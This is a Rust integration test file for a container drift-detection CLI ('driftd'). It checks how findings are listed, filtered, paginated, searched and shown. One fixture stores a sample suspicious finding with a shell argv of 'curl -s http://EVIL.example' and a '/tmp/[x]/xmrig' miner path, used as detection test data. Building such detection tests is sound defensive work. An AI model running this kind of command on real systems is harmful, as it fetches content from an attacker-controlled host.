//! Listing, showing and searching findings.

use std::collections::BTreeMap;
use std::process::Command;
use std::time::{Duration, Instant};

use driftd::history::{MemberChange, Record};
use driftd::model::finding::MEMBER_SCHEMA;
use driftd::model::{self, Finding, Kind, Member, RootfsPath, Severity};

use crate::follow::Following;
use crate::node::Node;
use crate::program::{Output, PATIENCE, wait_until};
use crate::samples::{finding, sample};

#[test]
fn findings_are_listed_filtered_and_shown() {
    let node = Node::start();
    let empty = node.run(&["findings", "--exit-code"]);
    assert_eq!(empty.code, 0);
    assert!(empty.err.contains("driftd status"), "{}", empty.err);

    let (old, mut young) = (finding(1, 7200), finding(2, 10));
    (young.kind, young.severity) = (Kind::FileAdded, Severity::Low);
    let elsewhere = sample();
    node.store_findings(&[old.clone(), young.clone(), elsewhere.clone()]);

    let json = node.run(&["findings", "-o", "json"]);
    assert_eq!((json.code, json.err.as_str()), (0, ""));
    let listed: Vec<Finding> = serde_json::from_str(&json.out).unwrap();
    let mut expected = vec![old.clone(), young.clone(), elsewhere.clone()];
    expected.sort_by_key(|finding| std::cmp::Reverse(finding.last_seen));
    assert_eq!(listed, expected);

    let ids = |arguments: &[&str]| {
        let output = node.run(&[&["findings", "-q"], arguments].concat());
        assert_eq!(output.code, 0, "{output:?}");
        output.out.lines().map(str::to_owned).collect::<Vec<String>>()
    };
    let newest_first = |findings: &[&Finding]| {
        let mut findings = findings.to_vec();
        findings.sort_by_key(|finding| std::cmp::Reverse(finding.last_seen));
        findings.iter().map(|finding| finding.id.to_string()).collect::<Vec<String>>()
    };
    let elsewhere_id = elsewhere.container_id().unwrap().to_string();
    assert_eq!(ids(&["--container", "web"]), newest_first(&[&old, &young]));
    let digits = &elsewhere.container_id().unwrap().id[..8];
    assert_eq!(
        ids(&["--container", digits]),
        newest_first(&[&elsewhere]),
        "an ended container, by its prefix"
    );
    for beginning in ["4f1c", "we"] {
        let refused = node.run(&["findings", "--container", beginning]);
        assert_eq!((refused.code, refused.out.as_str()), (2, ""), "u19: {beginning}");
        let reason = &refused.err;
        let expected = ["write the whole ID", "(there is: "];
        assert!(expected.iter().all(|part| reason.contains(part)), "{reason}");
    }
    assert_eq!(ids(&["--container", &elsewhere_id]), newest_first(&[&elsewhere]));
    assert_eq!(ids(&["--kind", "file.added"]), newest_first(&[&young]));
    assert_eq!(ids(&["--severity", "high", "--container", "web"]), newest_first(&[&old]));
    assert_eq!(ids(&["--since", "1h", "--container", "web"]), newest_first(&[&young]));
    assert_eq!(ids(&["--until", "1h", "--container", "web"]), newest_first(&[&old]));
    assert_eq!(ids(&["--limit", "1"]).len(), 1);
    assert_eq!(ids(&["--image", "no/such:image"]), Vec::<String>::new());

    assert_eq!(node.run(&["findings", "--exit-code"]).code, 1);
    assert_eq!(node.run(&["findings", "--exit-code", "--kind", "exec.new"]).code, 0);
    let table = node.run(&["findings"]);
    assert!(table.out.starts_with("SEVERITY  KIND "), "{}", table.out);
    assert!(!table.out.contains('\x1b'), "no colour in a pipe");

    let whole = node.run(&["show", &old.id.to_string()[..8]]);
    assert_eq!(whole.code, 0, "{whole:?}");
    assert!(whole.out.starts_with("CRITICAL exec.modified\n"), "{}", whole.out);
    let whole = node.run(&["show", &old.id.to_string(), "-o", "json"]);
    assert_eq!(serde_json::from_str::<Finding>(&whole.out).unwrap(), old);
    let nothing = node.run(&["show", "ee"]);
    assert_eq!(
        (nothing.code, nothing.err.as_str()),
        (2, "error: no finding or session `ee` (see: driftd findings, driftd sessions)\n")
    );
    let several = node.run(&["show", "0"]);
    assert_eq!(
        (several.code, several.err.as_str()),
        (2, "error: `0` could be 3 findings: write more of the ID\n")
    );
}

#[test]
fn the_files_of_an_aggregated_finding_are_all_listed() {
    let node = Node::start();
    let (mut aggregate, alone) = (finding(1, 10), finding(2, 10));
    (aggregate.kind, aggregate.severity) = (Kind::FileRelocated, Severity::Info);
    aggregate.files = Some(2500);
    let changes = (0..2500_u32).map(|number| {
        let path: &[u8] = if number == 0 { b"/tmp/\x1b[2J\xff" } else { b"/tmp/t" };
        let path = [path, format!("{number:05}").as_bytes()].concat();
        MemberChange::Seen(Member {
            schema: MEMBER_SCHEMA.into(),
            path: RootfsPath::new(path).unwrap(),
            kind: Kind::FileRelocated,
            blake3: None,
            first_seen: aggregate.first_seen,
            last_seen: aggregate.first_seen,
            removed: number == 7,
        })
    });
    let changes = changes.collect();
    let record = Record::Aggregate { finding: Box::new(aggregate.clone()), changes };
    node.writer.as_ref().unwrap().records().send(record).unwrap();
    node.store_findings(std::slice::from_ref(&alone));

    let id = aggregate.id.to_string();
    let names = node.run(&["members", &id[..8], "-q"]);
    assert_eq!((names.code, names.out.lines().count()), (0, 2500));
    assert!(names.out.starts_with("/tmp/\\u{1b}[2J\\xff00000\n"), "{}", &names.out[..80]);
    assert_eq!(node.run(&["members", &id, "-q", "--limit", "1200"]).out.lines().count(), 1200);
    let json = node.run(&["members", &id, "-o", "json"]);
    let members: Vec<Member> = serde_json::from_str(&json.out).unwrap();
    assert_eq!(members.len(), 2500);
    assert_eq!(members.iter().filter(|member| member.removed).count(), 1);
    let lines = node.run(&["members", &id, "-o", "jsonl"]);
    assert_eq!(lines.out.lines().count(), 2500);
    let table = node.run(&["members", &id]);
    assert!(table.out.starts_with("PATH "), "{}", &table.out[..80]);
    assert!(!table.out.contains('\x1b'));

    let shown = node.run(&["show", &id]);
    let expected = format!("Stands for  2500 files (driftd members {})", &id[..12]);
    assert!(shown.out.contains(&expected), "{}", shown.out);
    let listed = node.run(&["findings"]);
    assert!(listed.out.contains(" (2500 files)"), "{}", listed.out);

    let one = node.run(&["members", &alone.id.to_string()]);
    assert_eq!((one.code, one.out.lines().count()), (0, 1), "{one:?}");
    assert!(one.err.contains("driftd show"), "{}", one.err);
    let nothing = node.run(&["members", "ee"]);
    assert_eq!(
        (nothing.code, nothing.err.as_str()),
        (2, "error: no finding `ee` (see: driftd findings)\n")
    );
}

/// Inserts findings of the last hours into the database, one second apart.
pub(crate) fn fill(node: &Node, number: u32) {
    node.store_findings(&[finding(0, 0)]);
    let database = rusqlite::Connection::open(node.dir.path().join("state/history.db")).unwrap();
    database.busy_timeout(PATIENCE).unwrap();
    database
        .execute(
            "WITH RECURSIVE numbers (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < ?1)
             INSERT INTO finding
             SELECT printf('%032x', n), revision, namespace, container, image, manifest_digest,
                    kind, severity, first_seen - n, last_seen - n, count,
                    json_set(json, '$.id', printf('%032x', n)), labels
             FROM finding, numbers",
            [number - 1],
        )
        .unwrap();
}

#[test]
fn u11_a_long_history_is_listed_in_little_time_and_memory() {
    // It was also tested with 250,000, which take a minute to insert. The promise does not
    // depend on the number.
    const MANY: u32 = 30_000;
    let node = Node::start();
    fill(&node, MANY);
    // The client ends if it needs more heap than this.
    let run = |arguments: &[&str]| {
        let mut command = Command::new("prlimit");
        command.arg("--data=62914560").arg(env!("CARGO_BIN_EXE_driftd")).args(arguments);
        command.env("DRIFTD_SOCKET", node.socket());
        Output::of(command.output().unwrap())
    };
    let begun = Instant::now();
    let table = run(&["findings"]);
    // The time does not depend on the number; a debug build on a busy machine is slow.
    assert!(begun.elapsed() < Duration::from_secs(5), "{:?}", begun.elapsed());
    assert_eq!((table.code, table.err.as_str()), (0, ""));
    assert_eq!(table.out.lines().count(), 1002, "a header, the newest 1,000, and a last line");
    let last = table.out.lines().last().unwrap();
    assert!(last.starts_with("… the newest 1000 are shown, and there are more: --limit"), "{last}");
    assert_eq!(run(&["findings", "--limit", "3"]).out.lines().count(), 5);

    // The next page begins where this one ends.
    let token = last.split("--page ").nth(1).unwrap().split(' ').next().unwrap();
    let ids = |arguments: &[&str]| -> Vec<String> {
        let output = run(&[&["findings", "-q", "--limit", "1500"], arguments].concat());
        output.out.lines().map(str::to_owned).collect()
    };
    assert_eq!(ids(&["--page", token])[0], ids(&[])[1000]);

    let lines = run(&["findings", "-o", "jsonl", "--limit", "20000"]);
    assert_eq!((lines.code, lines.out.lines().count()), (0, 20_000));
    let json = run(&["findings", "-o", "json", "--limit", "0", "--until", "1970-01-01"]);
    assert_eq!(json.out, "[]\n");
    let document = run(&["findings", "-o", "json", "--limit", "3000"]);
    let document: Vec<Finding> = serde_json::from_str(&document.out).unwrap();
    assert_eq!(document.len(), 3000);
}

/// Stores five findings that differ in what filters examine: an image and a session, a
/// pod and arguments, a path and a hash, nothing special, and a member.
fn store_various_findings(node: &Node) -> [Finding; 5] {
    let [mut curl, mut shell, mut mined, plain] =
        [(1, 10), (2, 20), (3, 30), (4, 40)].map(|(number, ago)| finding(number, ago));
    curl.image.name = Some("docker.io/library/nginx:1.25".into());
    curl.session = Some("ffeeddccbbaa99887766554433221100".parse().unwrap());
    shell.file = None;
    shell.expected = None;
    shell.kind = Kind::SessionInteractive;
    shell.severity = Severity::Medium;
    let container = shell.container.as_mut().unwrap();
    container.labels =
        BTreeMap::from([("app.kubernetes.io/name".into(), "Pay \"x\"".into())]).into();
    container.pod = Some(model::Pod {
        namespace: "payments".into(),
        name: "pay-7d9f".into(),
        uid: "u".into(),
        container: None,
    });
    let argv = vec!["sh".into(), "-c".into(), "curl -s http://EVIL.example".into()];
    shell.process.as_mut().unwrap().argv = Some(argv);
    mined.kind = Kind::FileAdded;
    let file = mined.file.as_mut().unwrap();
    file.path = RootfsPath::new("/tmp/[x]/xmrig").unwrap();
    file.blake3 = Some(model::Blake3Hash([0xcd; 32]));
    mined.expected = None;
    node.store_findings(&[curl.clone(), shell.clone(), mined.clone(), plain.clone()]);
    let mut group = finding(5, 50);
    (group.kind, group.files) = (Kind::FileAdded, Some(1));
    let member = Member {
        schema: MEMBER_SCHEMA.to_owned(),
        path: RootfsPath::new("/opt/Hidden/tool").unwrap(),
        kind: Kind::FileAdded,
        blake3: Some(model::Blake3Hash([0xee; 32])),
        first_seen: group.first_seen,
        last_seen: group.last_seen,
        removed: false,
    };
    let record = Record::Aggregate {
        finding: Box::new(group.clone()),
        changes: vec![MemberChange::Seen(member)],
    };
    let writer = node.writer.as_ref().unwrap();
    writer.records().send(record).unwrap();
    wait_until(|| writer.reader().count().unwrap() == 5);
    [curl, shell, mined, plain, group]
}

#[test]
fn u14_findings_are_found_by_their_content() {
    let node = Node::start();
    let all = store_various_findings(&node);
    let [curl, shell, mined, plain, group] = &all;
    let all = [curl, shell, mined, plain, group];
    for (arguments, expected) in [
        (&["--path", "/tmp/[x]/xmrig"][..], &[mined][..]),
        (&["--path", "/tmp"], &[mined]),
        (&["--path", "/tm"], &[]),
        (&["--path", "/tmp/[x]/*"], &[mined]),
        (&["--path", "*/xmrig", "--path", "/opt"], &[mined, group]),
        (&["--path", "/opt/Hidden/tool"], &[group]),
        (&["--hash", "cdcdcdcd"], &[mined]),
        (&["--hash", "blake3:EEEEEEEEEE"], &[group]),
        (&["--session", "ffeeddcc", "--kind", "exec.*", "--image", "nginx"], &[curl]),
        (&["--pod", "pay-*"], &[shell]),
        (&["--pod", "payments/pay-7d9f"], &[shell]),
        (&["--pod-namespace", "payments"], &[shell]),
        (&["--label", "app.kubernetes.io/name"], &[shell]),
        (&["-l", "app.kubernetes.io/name=Pay \"x\""], &[shell]),
        (&["-l", "app.kubernetes.io/name=pay"], &[]),
        (&["--text", "evil.EXAMPLE"], &[shell]),
        (&["--text", "-c curl"], &[shell]),
        (&["--text", "hidden/TOOL"], &[group]),
        (&["--text", "schema"], &[]),
        (&["--text", "curl", "--text", "evil"], &[shell]),
        (&["--image", "nginx"], &[curl]),
        (&["--image", "nginx:1.2"], &[]),
        (&["--kind", "FILE.*,session.interactive"], &[shell, mined, group]),
        (&["--severity", "MEDIUM", "--kind", "session.*"], &[shell]),
        (&["-c", "web", "--since", "2 hours ago", "--until", "now"], &all),
        (&["--since", "2026-11-27", "--until", "1970-01-01 10:00"], &[]),
    ] {
        let output = node.run(&[&["findings", "-q"], arguments].concat());
        let expected: String = expected.iter().map(|one| format!("{}\n", one.id)).collect();
        assert_eq!((output.out, output.code), (expected, 0), "{arguments:?} {}", output.err);
    }
    let shown = node.run(&["show", &mined.id.to_string(), "-o", "json"]);
    assert_eq!(shown.code, 0, "{}", shown.err);
    let shown: serde_json::Value = serde_json::from_str(&shown.out).unwrap();
    assert_eq!(shown["id"], mined.id.to_string());
    assert_eq!(shown["also_in"], serde_json::json!({ "containers": 0, "newest": [] }));
    for (arguments, reason) in [
        (&["--hash", "cdcd"][..], "8 or more hexadecimal digits"),
        (&["--session", "no-session"], "8 or more hexadecimal digits"),
    ] {
        let output = node.run(&[&["findings"], arguments].concat());
        assert_eq!(output.code, 2);
        assert!(output.err.contains(reason), "{}", output.err);
    }
    // A follower's filter is the same.
    let mut following = Following::start(&node, &["--pod", "pay-*"]);
    following.expect(shell);

    let shown = |arguments: &[&str]| {
        let mut command = node.command(arguments);
        command.env("TZ", "TST-5");
        Output::of(command.output().unwrap()).out
    };
    let id = curl.id.to_string();
    assert!(shown(&["show", &id]).contains(" UTC\n"));
    assert!(shown(&["--local-time", "show", &id]).contains(" TST\n"));
}

#[test]
fn output_is_yaml_or_the_requested_columns() {
    let node = Node::start();
    let mut one = finding(1, 10);
    one.image.name = Some("a: \u{1b}[2J\u{202e}\n- x".into());
    node.store_findings(&[one.clone(), finding(2, 20)]);
    let yaml = node.run(&["findings", "-o", "yaml"]).out;
    assert!(!yaml.contains(['\u{1b}', '\u{202e}']), "{yaml}");
    assert_eq!(yaml.lines().filter(|line| line.starts_with("- ")).count(), 2, "{yaml}");
    assert!(yaml.contains(&format!("id: {}", finding(2, 20).id)), "{yaml}");
    let columns = "custom-columns=ID:.id,PATH:file.path,UPPER:.process.argv[0],APP:.no.such\\.key";
    let table = node.run(&["findings", "-o", columns]).out;
    let lines: Vec<Vec<&str>> =
        table.lines().map(|line| line.split_whitespace().collect()).collect();
    assert_eq!(lines[0], ["ID", "PATH", "UPPER", "APP"]);
    assert_eq!(lines[1][0], one.id.to_string());
    assert_eq!((lines[1][1], lines[1][3]), ("/usr/bin/curl", "<none>"), "{table}");
    let shown = node.run(&["show", &one.id.to_string(), "-o", "custom-columns=KIND:.kind"]).out;
    assert_eq!(shown, format!("KIND\n{}\n", one.kind));
}

#[test]
fn more_findings_than_fit_on_a_page_are_all_listed() {
    let node = Node::start();
    let many: Vec<Finding> = (0..2500_u32)
        .map(|number| {
            let mut finding = finding(0, i64::from(number));
            finding.id.0[..4].copy_from_slice(&number.to_be_bytes());
            finding
        })
        .collect();
    node.store_findings(&many);
    let listed = node.run(&["findings", "-q"]);
    let expected: String = many.iter().map(|finding| format!("{}\n", finding.id)).collect();
    assert_eq!(listed.out, expected);
}

#[test]
fn an_unknown_or_ambiguous_container_is_an_error() {
    let node = Node::start();
    for (name, message) in [
        ("nope", "error: no container `nope` is known (see: driftd containers)\n"),
        ("w", "error: `w` could be 2 containers: write more of the ID, or NAMESPACE/ID\n"),
    ] {
        for arguments in [&["findings", "--container", name][..], &["diff", name]] {
            let output = node.run(arguments);
            assert_eq!((output.code, output.err.as_str()), (2, message), "{arguments:?}");
        }
    }
}
